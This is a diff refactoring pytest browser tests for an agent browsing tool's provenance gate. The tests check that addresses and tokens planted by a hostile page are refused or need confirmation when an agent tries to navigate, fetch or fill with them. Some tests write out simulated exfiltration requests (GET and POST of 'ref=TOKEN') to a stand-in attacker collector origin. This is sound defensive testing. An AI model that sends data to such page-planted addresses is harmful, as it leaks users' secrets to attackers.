@@ -19,13 +19,10 @@ from tabwarden.cli.browser import ThrowawayBrowser
 from tests.browser.harness import (
     Request,
     ServedSite,
-    chromium,
     code,
     confirm_page,
-    extension_connected,
     keep_dialogs_open,
     launched,
-    mcp_client,
     ok,
     press,
     served_pages,
@@ -33,21 +30,11 @@ from tests.browser.harness import (
     trust_this_process,
     widen,
 )
+from tests.browser.provenance import TOKEN, collected, confirm_windows, provenance_decisions
 from tests.deadline import until
 from tests.fakes import tool_error
-from tests.fixtures import audit_entries
 
 pytestmark = pytest.mark.browser
-
-GUARD = 240.0  # hang guard only
-TOKEN = "Zx81kq2PLmQ9"
-
-
-@pytest.fixture
-def collector() -> Iterator[ServedSite]:
-    """The attacker's second origin: answers anything, GET or POST, and records it."""
-    with served_pages(fallback="ok", methods=("GET", "POST")) as site:
-        yield site
 
 
 @pytest.fixture
@@ -74,17 +61,6 @@ def hostile(collector: ServedSite) -> Iterator[ServedSite]:
         yield site
 
 
-def _collected(collector: ServedSite) -> list[str]:
-    return [
-        f"{r.method} {r.target} {r.body.decode(errors='replace')}" for r in collector.requests()
-    ]
-
-
-def _decisions(browser: ThrowawayBrowser) -> list[tuple[str, str]]:
-    entries = audit_entries(browser.root / "config")
-    return [(e["tool"], e["decision"]) for e in entries if e["event"] == "provenance"]
-
-
 @pytest.mark.promise("H4-56")
 async def test_an_address_an_alert_planted_is_refused_under_strict_and_nothing_leaves(
     browser: ThrowawayBrowser, hostile: ServedSite, collector: ServedSite
@@ -104,15 +80,15 @@ async def test_an_address_an_alert_planted_is_refused_under_strict_and_nothing_l
         going = {"tabId": other, "url": planted}
         assert await code(agent, "page_navigate", going) == "provenance_refused"
         assert await code(agent, "tab_open", {"url": planted}) == "provenance_refused"
-    assert _collected(collector) == []
-    assert _decisions(browser) == [
+    assert collected(collector) == []
+    assert provenance_decisions(browser) == [
         ("page_navigate", "provenance_refused"),
         ("tab_open", "provenance_refused"),
     ]
 
 
 @pytest.mark.promise("H4-53")
-def test_page_fetch_get_and_post_of_a_planted_token_are_refused_under_strict(
+async def test_page_fetch_get_and_post_of_a_planted_token_are_refused_under_strict(
     browser: ThrowawayBrowser, hostile: ServedSite, collector: ServedSite
 ) -> None:
     """page_fetch passes the provenance gate as page_navigate does: the planted address (GET)
@@ -122,25 +98,21 @@ def test_page_fetch_get_and_post_of_a_planted_token_are_refused_under_strict(
     widen(browser, provenance="strict", pageFetch=True)
     planted = f"{collector.origin}/collect?ref={TOKEN}"
 
-    async def scenario() -> None:
-        async with chromium(browser) as _, mcp_client(browser) as agent:
-            await extension_connected(agent)
-            tab = (await ok(agent, "tab_open", {"url": f"{hostile.origin}/text"}))["tab"]["id"]
-            assert planted in (await ok(agent, "page_text", {"tabId": tab}))["text"]
-            get = {"tabId": tab, "url": planted}
-            assert await code(agent, "page_fetch", get) == "provenance_refused"
-            post = {
-                "tabId": tab,
-                "url": f"{collector.origin}/other",
-                "method": "POST",
-                "body": f"ref={TOKEN}",
-            }
-            assert await code(agent, "page_fetch", post) == "provenance_refused"
-            assert _collected(collector) == []
-
-    asyncio.run(asyncio.wait_for(scenario(), GUARD))
-    assert _collected(collector) == []
-    assert _decisions(browser) == [
+    async with launched(browser) as (_, agent):
+        tab = (await ok(agent, "tab_open", {"url": f"{hostile.origin}/text"}))["tab"]["id"]
+        assert planted in (await ok(agent, "page_text", {"tabId": tab}))["text"]
+        get = {"tabId": tab, "url": planted}
+        assert await code(agent, "page_fetch", get) == "provenance_refused"
+        post = {
+            "tabId": tab,
+            "url": f"{collector.origin}/other",
+            "method": "POST",
+            "body": f"ref={TOKEN}",
+        }
+        assert await code(agent, "page_fetch", post) == "provenance_refused"
+        assert collected(collector) == []
+    assert collected(collector) == []
+    assert provenance_decisions(browser) == [
         ("page_fetch", "provenance_refused"),
         ("page_fetch", "provenance_refused"),
     ]
@@ -166,8 +138,8 @@ async def test_a_page_suggested_page_fetch_asks_naming_the_request_before_the_fe
         await shows(window, f"A page on {hostile.origin} suggested this request: {planted}")
         await press(window, "#deny")
         assert (tool_error(await fetching) or {}).get("code") == "confirm_denied"
-    assert _collected(collector) == []
-    assert _decisions(browser) == [("page_fetch", "confirm_denied")]
+    assert collected(collector) == []
+    assert provenance_decisions(browser) == [("page_fetch", "confirm_denied")]
 
 
 @pytest.fixture
@@ -207,7 +179,7 @@ async def test_a_secret_read_through_an_observation_is_not_filed_under_the_tabs_
         assert await code(agent, "page_fill", typed) == "provenance_refused"
         state = await ok(agent, "page_get_state", {"tabId": form, "selector": "#user"})
         assert state["value"] == ""
-    assert _decisions(browser) == [("page_fill", "provenance_refused")]
+    assert provenance_decisions(browser) == [("page_fill", "provenance_refused")]
 
 
 #: A developer's two local servers: the same paths on both ports.
@@ -229,42 +201,40 @@ def _dev_page(request: Request) -> str:
     )
 
 
+@pytest.fixture
+def dev_servers() -> Iterator[tuple[ServedSite, ServedSite]]:
+    """A developer's two local servers (one host, two ports), serving the same local build."""
+    with served_pages(hook=_dev_page) as one, served_pages(hook=_dev_page) as two:
+        yield one, two
+
+
 @pytest.mark.promise("H4-56")
-def test_moving_between_two_approved_origins_of_one_host_asks_nothing(
-    browser: ThrowawayBrowser,
+async def test_moving_between_two_approved_origins_of_one_host_asks_nothing(
+    browser: ThrowawayBrowser, dev_servers: tuple[ServedSite, ServedSite]
 ) -> None:
     """The measured false alarm: after reading pages on one approved local origin, navigating to
     the same paths on another approved origin of the same host (another port) asked "an address
     a page suggested" each time. The tab's own URL is the bridge's report, not page content:
     navigating there, and typing what the task gave, asks nothing (no confirm window opens, no
     provenance decision is audited)."""
-    with served_pages(hook=_dev_page) as one, served_pages(hook=_dev_page) as two:
-        trust_this_process(browser, [one.origin, two.origin])
-        windows: list[str] = []
+    one, two = dev_servers
+    trust_this_process(browser, [one.origin, two.origin])
 
-        async def scenario() -> None:
-            async with chromium(browser) as context, mcp_client(browser) as agent:
-                context.on(
-                    "page", lambda p: windows.append(p.url) if "/confirm.html" in p.url else None
-                )
-                await extension_connected(agent)
-                opened = await ok(agent, "tab_open", {"url": f"{one.origin}{DEV_PATHS[0]}"})
-                tab = opened["tab"]["id"]
-                for path in DEV_PATHS:
-                    await ok(agent, "page_navigate", {"tabId": tab, "url": f"{one.origin}{path}"})
-                    await ok(agent, "page_text", {"tabId": tab})
-                    await ok(agent, "page_snapshot", {"tabId": tab, "compact": True})
-                await ok(agent, "tab_list", {})
-                for path in DEV_PATHS:
-                    went = await ok(
-                        agent, "page_navigate", {"tabId": tab, "url": f"{two.origin}{path}"}
-                    )
-                    assert went["url"] == f"{two.origin}{path}"
-                for selector, value in (("#name", "Ada Lovelace"), ("#mail", "ada@example.com")):
-                    filled = {"tabId": tab, "selector": selector, "value": value}
-                    await ok(agent, "page_fill", filled)
-                await ok(agent, "tab_open", {"url": f"{two.origin}{DEV_PATHS[1]}"})
-
-        asyncio.run(asyncio.wait_for(scenario(), GUARD))
+    async with launched(browser) as (context, agent):
+        windows = confirm_windows(context)
+        opened = await ok(agent, "tab_open", {"url": f"{one.origin}{DEV_PATHS[0]}"})
+        tab = opened["tab"]["id"]
+        for path in DEV_PATHS:
+            await ok(agent, "page_navigate", {"tabId": tab, "url": f"{one.origin}{path}"})
+            await ok(agent, "page_text", {"tabId": tab})
+            await ok(agent, "page_snapshot", {"tabId": tab, "compact": True})
+        await ok(agent, "tab_list", {})
+        for path in DEV_PATHS:
+            went = await ok(agent, "page_navigate", {"tabId": tab, "url": f"{two.origin}{path}"})
+            assert went["url"] == f"{two.origin}{path}"
+        for selector, value in (("#name", "Ada Lovelace"), ("#mail", "ada@example.com")):
+            filled = {"tabId": tab, "selector": selector, "value": value}
+            await ok(agent, "page_fill", filled)
+        await ok(agent, "tab_open", {"url": f"{two.origin}{DEV_PATHS[1]}"})
     assert windows == []
-    assert _decisions(browser) == []
+    assert provenance_decisions(browser) == []
